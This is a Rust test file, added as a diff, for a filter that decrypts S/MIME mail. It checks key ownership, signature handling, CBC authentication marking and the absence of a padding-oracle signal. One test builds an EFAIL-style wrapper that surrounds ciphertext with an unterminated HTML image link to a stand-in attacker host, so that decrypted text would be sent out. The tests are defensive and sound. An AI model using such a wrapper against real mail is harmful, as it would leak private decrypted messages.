@@ -1,0 +1,156 @@
+//! Mail encrypted by others is opened for those who own the key, and for nobody else.
+
+use testkit::mail::{Letter, ugly_entity};
+use testkit::peers::{Recipient, pkcs7_mime};
+use testkit::smtp::Origin;
+use testkit::{Lab, mime};
+
+use crate::common::{assert_same_content, assert_untouched, our_results, verdict};
+
+const TEXT: &[u8] = b"Content-Type: text/plain\r\n\r\nfor bob only\r\n";
+
+fn letter<'a>(lab: &'a Lab, to: &'a str) -> Letter<'a> {
+    Letter { from: &lab.erin.address, to, subject: "Encrypted" }
+}
+
+#[test]
+fn mail_encrypted_by_openssl_or_gpgsm_arrives_decrypted() {
+    let running = Lab::new("decrypt").unwrap().start().unwrap();
+    let lab = &running.lab;
+    let (openssl, gpgsm) = (lab.openssl().unwrap(), lab.gpgsm().unwrap());
+    gpgsm.know(&lab.bob).unwrap();
+    let content = mime::crlf(&ugly_entity(300_000));
+    let by_openssl = |to: Recipient<'_>, options: &[&str]| openssl.encrypt(&content, &[to], options).unwrap();
+    let entities = [
+        ("PKCS #1 v1.5", by_openssl(Recipient::pkcs1(&lab.bob), &[])),
+        ("OAEP", by_openssl(Recipient::oaep(&lab.bob), &[])),
+        ("indefinite length", by_openssl(Recipient::pkcs1(&lab.bob), &["-stream"])),
+        ("AES-128", by_openssl(Recipient::pkcs1(&lab.bob), &["-aes-128-cbc"])),
+        ("by key identifier", by_openssl(Recipient::pkcs1(&lab.bob), &["-keyid"])),
+        ("gpgsm", pkcs7_mime("enveloped-data", &gpgsm.encrypt(&content, &[&lab.bob]).unwrap())),
+    ];
+    for (how, entity) in entities {
+        let sent = letter(lab, &lab.bob.address).carrying(&entity);
+        let mail = running.incoming(&[&lab.bob.address], &sent).unwrap();
+        let types = mime::values(&mail.octets, "content-type");
+        assert_eq!(types, ["multipart/mixed; boundary=\"outer\""], "{how}");
+        assert_eq!(mime::values(&mail.octets, "mime-version").len(), 1, "{how}");
+        assert_same_content(&mail.octets, &content);
+        for name in ["from", "to", "subject", "date", "message-id"] {
+            assert_eq!(mime::values(&mail.octets, name), mime::values(&sent, name), "{how}: {name}");
+        }
+    }
+}
+
+#[test]
+fn one_mail_for_several_owners_is_opened_for_all_of_them() {
+    let running = Lab::new("several").unwrap().start().unwrap();
+    let lab = &running.lab;
+    let to = [Recipient::pkcs1(&lab.erin), Recipient::pkcs1(&lab.alice), Recipient::pkcs1(&lab.bob)];
+    let entity = lab.openssl().unwrap().encrypt(TEXT, &to, &[]).unwrap();
+    let sent = letter(lab, &lab.bob.address).carrying(&entity);
+    let mail = running.incoming(&[&lab.bob.address, &lab.alice.address], &sent).unwrap();
+    assert_same_content(&mail.octets, TEXT);
+}
+
+#[test]
+fn mail_for_somebody_who_does_not_own_the_key_arrives_untouched() {
+    let running = Lab::new("untouched").unwrap().start().unwrap();
+    let lab = &running.lab;
+    let entity = lab.openssl().unwrap().encrypt(TEXT, &[Recipient::pkcs1(&lab.bob)], &[]).unwrap();
+    let sent = letter(lab, &lab.bob.address).carrying(&entity);
+    let [alice, bob] = [lab.alice.address.as_str(), lab.bob.address.as_str()];
+    for recipients in [
+        // Owns another key of ours.
+        &[alice][..],
+        // Owns none.
+        &["dora@example.org"],
+        // One body goes to both, and one of them must not read it.
+        &[bob, alice],
+        &[bob, "dora@example.org"],
+    ] {
+        let mail = running.incoming(recipients, &sent).unwrap();
+        assert_untouched(&mail, &sent);
+        assert!(!our_results(&mail).iter().any(|result| result.contains("smime=pass")), "{mail:?}");
+    }
+}
+
+#[test]
+fn ciphertext_inside_another_entity_stays_closed() {
+    let running = Lab::new("nested").unwrap().start().unwrap();
+    let lab = &running.lab;
+    let entity = lab.openssl().unwrap().encrypt(TEXT, &[Recipient::pkcs1(&lab.bob)], &[]).unwrap();
+    let around = [
+        &b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
+           <img src=\"http://evil.example/\r\n--b\r\n"[..],
+        &mime::crlf(&entity),
+        b"\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n",
+    ]
+    .concat();
+    let sent = letter(lab, &lab.bob.address).carrying(&around);
+    let mail = running.incoming(&[&lab.bob.address], &sent).unwrap();
+    assert_untouched(&mail, &sent);
+}
+
+#[test]
+fn signed_then_encrypted_mail_is_opened_and_its_signature_judged() {
+    let running = Lab::new("triple").unwrap().start().unwrap();
+    let lab = &running.lab;
+    let openssl = lab.openssl().unwrap();
+    for options in [&[][..], &["-nodetach"]] {
+        let signed = openssl.sign_with(TEXT, &lab.erin, options).unwrap();
+        let entity =
+            openssl.encrypt(&mime::crlf(&signed), &[Recipient::pkcs1(&lab.bob)], &["-stream"]).unwrap();
+        let sent = letter(lab, &lab.bob.address).carrying(&entity);
+        let mail = running.incoming(&[&lab.bob.address], &sent).unwrap();
+        assert_eq!(verdict(&mail), "pass", "{mail:?}");
+        assert!(mime::find(&mail.octets, b"enveloped-data").is_none(), "{mail:?}");
+    }
+}
+
+#[test]
+fn unsigned_cbc_plaintext_is_marked_as_unauthenticated() {
+    let running = Lab::new("cbc").unwrap().start().unwrap();
+    let lab = &running.lab;
+    let entity = lab.openssl().unwrap().encrypt(TEXT, &[Recipient::pkcs1(&lab.bob)], &[]).unwrap();
+    let sent = letter(lab, &lab.bob.address).carrying(&entity);
+    let mail = running.incoming(&[&lab.bob.address], &sent).unwrap();
+    assert_same_content(&mail.octets, TEXT);
+    assert_ne!(verdict(&mail), "pass");
+    assert!(our_results(&mail)[0].contains("not authenticated"), "{mail:?}");
+}
+
+#[test]
+fn every_bad_ciphertext_gets_the_reply_and_the_mail_of_every_other() {
+    let running = Lab::new("oracle").unwrap().start().unwrap();
+    let lab = &running.lab;
+    let openssl = lab.openssl().unwrap();
+    let der = |sent: &[u8]| mime::leaves(sent).unwrap().remove(0).octets;
+    let good = openssl.encrypt(TEXT, &[Recipient::pkcs1(&lab.bob)], &[]).unwrap();
+    let good = der(&letter(lab, &lab.bob.address).carrying(&good));
+    let flipped = |at: usize| {
+        let mut bad = good.clone();
+        bad[at] ^= 0x55;
+        bad
+    };
+    // The wrapped key is the one OCTET STRING of 256 octets; the content ends the object.
+    let key = mime::find(&good, &[0x04, 0x82, 0x01, 0x00]).unwrap() + 4;
+    let bad = [flipped(key + 10), flipped(key + 255), flipped(good.len() - 1), flipped(good.len() - 20)];
+    let mut replies = Vec::new();
+    for object in bad {
+        let sent = letter(lab, &lab.bob.address).carrying(&pkcs7_mime("enveloped-data", &object));
+        let origin = Origin::remote();
+        let attempt = running.attempt(&origin, &lab.erin.address, &[&lab.bob.address], &sent).unwrap();
+        let (reply, Some(mail)) = attempt else { panic!("refused: {attempt:?}") };
+        assert_untouched(&mail, &sent);
+        replies.push((reply.text.split(' ').next().map(str::to_owned), our_results(&mail)));
+    }
+    assert!(replies.iter().all(|reply| *reply == replies[0]), "they differ: {replies:?}");
+
+    let log = running.milter.log();
+    let outcomes: Vec<&str> = log.lines().filter_map(|line| Some(line.split_once(" action=")?.1)).collect();
+    let outcomes: Vec<&str> =
+        outcomes.iter().filter_map(|line| Some(line.split_once(" octets=")?.0)).collect();
+    assert_eq!(outcomes.len(), replies.len(), "{log}");
+    assert!(outcomes.iter().all(|outcome| *outcome == outcomes[0]), "the log tells them apart: {log}");
+}
